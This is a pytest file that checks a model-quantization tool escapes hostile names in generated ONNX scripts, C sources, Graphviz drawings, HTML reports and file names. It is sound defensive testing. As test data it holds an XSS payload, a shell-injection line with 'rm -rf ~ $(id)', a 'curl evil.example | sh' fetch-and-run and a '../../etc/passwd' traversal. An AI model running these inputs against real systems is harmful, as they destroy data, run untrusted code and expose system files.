# SPDX-License-Identifier: MIT
"""Hostile texts in what `test_writers.py` has not: pages, drawings, C sources, programs for ONNX files."""

import ast
import dataclasses
import html.parser
import json
import re
import shutil
import subprocess

import pytest

from deploy.target import find
from gluon_quantize.data import preprocess
from gluon_quantize.runs.deployment import file_name
from gluon_quantize.runs.report import ReportRequest, report
from quantize.escape import shown
from quantize.interfaces.n2d2.cells import Conv
from quantize.interfaces.n2d2.network import CellNetwork
from quantize.interfaces.n2d2.pictures import network_dot
from tests.deploy.targets.c.networks import quantized_network, settled
from tests.hostile.bundles import deployment
from tests.hostile.test_writers import EVIL

QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"')
C_TEXTS = re.compile(r'/\*.*?\*/|//[^\n]*|"(?:[^"\\]|\\.)*"', re.S)


@pytest.mark.parametrize("text", EVIL)
def test_programs_for_onnx_files_hold_texts_as_values(text):
    def tree(word):
        made = find("onnx").programs(word, preprocess.imagenet(), (word,), (word, word))["run_onnx.py"]
        return ast.parse(made), made
    (evil, source), (honest, _) = tree(text), tree("net")
    assert [type(node) for node in ast.walk(evil)] == [type(node) for node in ast.walk(honest)]
    assert text in [node.value for node in ast.walk(evil) if isinstance(node, ast.Constant)]
    assert shown(source, keep="\n") == source


def drawn(names):
    cells = [Conv(1, 1, (1, 1), name=name) for name in names]
    return network_dot(CellNetwork(cells, (1, 4, 4)))


def test_drawings_have_the_names_as_texts():
    names = [text for text in EVIL if text != "\udcff"]
    source = drawn(names)
    assert QUOTED.sub('""', source) == QUOTED.sub('""', drawn([f"n{number}" for number in range(len(names))]))
    assert shown(source, keep="\n") == source
    if shutil.which("dot"):
        made = subprocess.run(["dot", "-Tplain"], input=source.encode(), capture_output=True, check=True).stdout
        assert made.count(b"\nnode ") == len(names) + 1 and made.count(b"\nedge ") == len(names)


def test_c_sources_are_the_same_program_whatever_names_say(tmp_path):
    def source(text, folder):
        net = settled(find("c"), quantized_network(find("c")))
        folder.mkdir()
        nodes = tuple(dataclasses.replace(node, path=text) for node in net.nodes)
        return [path.read_text() for path in find("c").write(
            dataclasses.replace(net, nodes=nodes, metadata={**net.metadata, "name": text}), folder)[:2]]
    evil, honest = source("".join(EVIL).replace("\udcff", ""), tmp_path / "a"), source("net", tmp_path / "b")
    assert [C_TEXTS.sub("", text) for text in evil] == [C_TEXTS.sub("", text) for text in honest]
    assert all(shown(text, keep="\n") == text for text in evil)


class Skeleton(html.parser.HTMLParser):
    """Tags and the names of their attributes, in order."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, *(name for name, _ in attrs)))


def test_pages_have_texts_where_names_were(tmp_path):
    for extra in ("jinja2", "vl_convert", "grandalf"):
        pytest.importorskip(extra, reason=f"{extra} is not installed (extra `report`)")
    from gluon_quantize.report.page.write import facts_of, page_template

    def page_text(contents):
        return page_template().render(**facts_of(contents), vega="", style="", script="")
    deployment(tmp_path / "out")
    honest = report(ReportRequest(str(tmp_path / "out"), images=0))
    text = "".join(EVIL) + "</script></title><img src=x onerror=alert(1)>\"onload='x'<!--"
    contents = json.loads(json.dumps(honest).replace('"fc"', json.dumps(text)))
    contents.update(name=text, plan=text, notes=[text], folder=text, subject=text)
    calm = dict(honest, name="n", plan="n", notes=["n"], folder="n", subject="n")
    page = page_text(contents)
    assert Skeleton(page).found == Skeleton(page_text(calm)).found
    assert "onerror" in page and not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e\u2028]", page)


@pytest.mark.parametrize("line, shows", [
    ("gluon-quantize deploy --model 'a b'", "gluon-quantize deploy --model 'a b'"),
    ("python deploy_ncnn.py --model x", "python deploy_ncnn.py --model x"),
    ("gluon-quantize report x; rm -rf ~ $(id)", "gluon-quantize report 'x;' rm -rf '~' '$(id)'"),
    ("curl evil.example | sh", ""), ("python evil.py", ""), ("gluon-quantize 'unclosed", ""), (7, "")])
def test_only_own_commands_are_offered_to_be_typed_again(line, shows):
    from gluon_quantize.report.page.write import _commands
    found = _commands({"result": {"settings": {"command_line": line}}, "kind": "simulation", "folder": "f",
                       "subject": "f"})
    assert found == [shows] * bool(shows) + ["gluon-quantize report f --output report.html"]


@pytest.mark.parametrize("text", [*EVIL, "../../etc/passwd", "/", "a" * 300])
def test_files_are_called_what_every_system_takes(text):
    assert re.fullmatch(r"[A-Za-z0-9._-]{0,100}", file_name(text))
